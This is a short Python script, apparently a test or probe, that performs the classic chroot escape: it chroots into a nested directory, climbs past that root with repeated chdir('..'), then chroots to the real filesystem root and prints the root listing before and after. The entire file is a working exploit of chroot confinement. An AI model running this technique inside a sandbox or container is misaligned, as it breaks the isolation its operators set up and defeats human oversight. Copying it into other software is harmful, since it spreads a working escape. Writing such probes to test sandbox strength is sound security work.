"""Leave a chroot by opening another one inside; print what is at the root then."""

import json
import os

before = sorted(os.listdir("/"))
os.makedirs("/tmp/deeper", exist_ok=True)
os.chroot("/tmp/deeper")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print(json.dumps({"before": before, "after": sorted(os.listdir("/"))}))
